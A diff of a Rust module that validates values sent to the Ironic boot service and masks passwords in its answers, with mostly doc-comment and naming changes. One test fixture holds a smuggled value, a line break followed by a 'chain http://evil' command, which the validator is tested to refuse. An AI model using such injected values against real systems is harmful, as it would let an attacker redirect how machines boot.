@@ -1,26 +1,28 @@
-//! What may be written to Ironic, and what of that is shown again.
+//! Checks of values before they are sent to Ironic, and masking of secrets in its answers.
 
 use serde_json::{Map, Value};
 
 use super::error::IronicError;
 
-/// What Ironic shows in place of a password.
+/// The text that Ironic shows in place of a password.
 pub(super) const MASK: &str = "******";
 
-/// Refuses what must never be written: control characters, which would be commands of their own in the boot script
-/// that Ironic makes of a target's properties, and masks, which would replace the password that they stand for.
-/// `path` says where the value stands.
+/// Returns an error if `value`, found at `path` of the object, contains control characters or a mask.
+///
+/// Ironic copies properties of a target into a boot script, where a line break would start a new command. A
+/// mask would replace the password that it stands for.
 pub(super) fn check(value: &Value, path: &str) -> Result<(), IronicError> {
-    let bad = |problem| Err(IronicError::BadValue { what: format!("`{}`", path.escape_debug()), problem });
+    let refused =
+        |problem| Err(IronicError::BadValue { what: format!("`{}`", path.escape_debug()), problem });
     match value {
         Value::String(text) if text.chars().any(char::is_control) => {
-            bad("must not have control characters (line breaks, tabs, …)")
+            refused("must not have control characters (line breaks, tabs, …)")
         }
-        Value::String(text) if text == MASK => bad("must not be the mask that stands for a password"),
+        Value::String(text) if text == MASK => refused("must not be the mask that stands for a password"),
         Value::Array(items) => items.iter().try_for_each(|item| check(item, path)),
         Value::Object(map) => map.iter().try_for_each(|(key, value)| {
             if key.chars().any(char::is_control) {
-                return bad("must not have a key with control characters");
+                return refused("must not have a key with control characters");
             }
             check(value, &if path.is_empty() { key.clone() } else { format!("{path}.{key}") })
         }),
@@ -28,7 +30,7 @@ pub(super) fn check(value: &Value, path: &str) -> Result<(), IronicError> {
     }
 }
 
-/// Masks passwords, where the server is configured to show them.
+/// Masks the secrets in `object`. A server can be configured to show them.
 pub(super) fn mask(object: &mut Map<String, Value>) {
     for name in ["properties", "driver_info", "instance_info"] {
         let Some(Value::Object(fields)) = object.get_mut(name) else { continue };
@@ -40,7 +42,7 @@ pub(super) fn mask(object: &mut Map<String, Value>) {
     }
 }
 
-/// Whether a property by this name holds a secret.
+/// Returns true if a property with this name holds a secret.
 pub fn is_secret(key: &str) -> bool {
     let key = key.to_ascii_lowercase();
     key.contains("password") || key.contains("secret")
@@ -52,7 +54,7 @@ mod tests {
     use serde_json::json;
 
     #[test]
-    fn control_characters_and_masks_are_refused_wherever_they_stand_and_not_quoted() {
+    fn control_characters_and_masks_are_refused_and_the_error_does_not_quote_them() {
         for (value, place) in [
             (json!({"properties": {"target_iqn": "iqn.x\nchain http://evil"}}), "`properties.target_iqn`"),
             (json!({"properties": {"portals": ["a", "b\u{7f}"]}}), "`properties.portals`"),
@@ -67,7 +69,7 @@ mod tests {
     }
 
     #[test]
-    fn only_passwords_are_masked() {
+    fn secrets_are_masked_and_user_names_are_not() {
         let mut target = json!({"properties": {
             "auth_password": "hush", "discovery_auth_password": 7, "auth_username": "u", "Secret": "s",
         }});
